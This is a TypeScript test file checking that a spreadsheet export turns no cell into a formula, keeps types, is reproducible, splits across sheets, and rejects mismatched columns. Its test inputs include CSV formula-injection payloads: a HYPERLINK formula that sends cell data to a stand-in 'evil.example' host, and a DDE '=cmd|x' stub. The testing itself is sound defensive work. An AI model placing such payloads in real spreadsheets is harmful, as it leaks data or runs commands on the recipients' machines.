/**
 * The spreadsheets of /data/ (src/lib/formats/xlsx.ts): opened with a real parser
 * (ExcelJS's reader), no cell is a formula, however its text begins (`=`, `+`,
 * `-`, `@`, a tab, a carriage return: what a spreadsheet evaluates in a CSV);
 * text cells are strings with the CSV's exact value and the text format;
 * integers are numbers, yes/no booleans, an absent value an empty cell; and
 * one table gives one file, byte for byte.
 */
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { columns, table } from '../../src/lib/formats/table-schema.ts';
import { toCsv, type Cell } from '../../src/lib/formats/csv.ts';
import { tableXlsx } from '../../src/lib/formats/xlsx.ts';

const dangerous = ['=HYPERLINK("https://evil.example/?"&A2,"click")', '-2+3 is the sum', '+1 202 555', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\r\n=2', ' =1+1', '-'];

async function open(buffer: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(buffer as unknown as ArrayBuffer);
  return book.worksheets[0];
}

describe('a table as a spreadsheet', () => {
  it('holds no formula: every text, whatever it begins with, is a string cell with the exact value, typed as text', async () => {
    const t = table('paragraphs');
    const rows = dangerous.map((text, i) => ({ statement: 's', paragraph: i + 1, text, url: `https://x.example/s/#p${i + 1}` }));
    const sheet = await open(await tableXlsx(t, toCsv(columns('paragraphs'), rows)));
    expect(sheet.rowCount).toBe(rows.length + 1);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(columns('paragraphs'));
    let cells = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        cells++;
        expect(cell.type, String(cell.address)).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, String(cell.address)).toBeUndefined();
      }),
    );
    expect(cells).toBe((rows.length + 1) * 4);
    rows.forEach((r, i) => {
      const row = sheet.getRow(i + 2);
      expect(row.getCell(3).type).toBe(ExcelJS.ValueType.String);
      // XML reads a carriage return as a line feed; the edition's text has none (its checks refuse
      // control characters but the line feed and tab), so only those cells may differ, and only so.
      expect(row.getCell(3).value).toBe(r.text.includes('\r') ? r.text.replace(/\r\n?/g, '\n') : r.text);
      expect(row.getCell(3).numFmt).toBe('@');
      expect(row.getCell(2).value).toBe(r.paragraph);
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    });
  });

  it('gives yes/no as booleans and an absent value as an empty cell, as the CSV does', async () => {
    const t = table('mentions');
    const names = columns('mentions');
    const row: Record<string, Cell> = Object.fromEntries(names.map((n) => [n, t.fields.find((f) => f.name === n)!.type === 'integer' ? 3 : t.fields.find((f) => f.name === n)!.type === 'boolean' ? true : '=cmd|x']));
    const optional = t.fields.find((f) => !f.required && f.type === 'string');
    if (optional) row[optional.name] = undefined;
    const sheet = await open(await tableXlsx(t, toCsv(names, [row])));
    t.fields.forEach((f, i) => {
      const cell = sheet.getRow(2).getCell(i + 1);
      if (f === optional) expect(cell.value, f.name).toBeNull();
      else expect(cell.value, f.name).toBe(row[f.name]);
      expect(cell.type, f.name).not.toBe(ExcelJS.ValueType.Formula);
    });
  });

  it('is the same file, byte for byte, when made again', async () => {
    const csv = toCsv(columns('paragraphs'), [{ statement: 's', paragraph: 1, text: 'Text.', url: 'https://x.example/' }]);
    const a = await tableXlsx(table('paragraphs'), csv);
    await new Promise((r) => setTimeout(r, 2100)); // ZIP times have a two-second step
    expect((await tableXlsx(table('paragraphs'), csv)).equals(a)).toBe(true);
  });

  it('goes on in further sheets, each with the header, past the rows a sheet can hold', async () => {
    const rows = [1, 2, 3, 4, 5].map((n) => ({ statement: 's', paragraph: n, text: `=${n}`, url: 'https://x.example/' }));
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await tableXlsx(table('paragraphs'), toCsv(columns('paragraphs'), rows), 2)) as unknown as ArrayBuffer);
    expect(book.worksheets.map((w) => [w.name, w.rowCount])).toEqual([['paragraphs', 3], ['paragraphs 2', 3], ['paragraphs 3', 2]]);
    expect(book.worksheets.flatMap((w) => w.getColumn(2).values.slice(2))).toEqual([1, 2, 3, 4, 5]);
  });

  it('refuses a CSV whose columns are not the table’s', async () => {
    await expect(tableXlsx(table('paragraphs'), 'a,b\r\n1,2\r\n')).rejects.toThrow(/paragraphs: the CSV's columns \(a, b\) are not the table's/);
  });
});
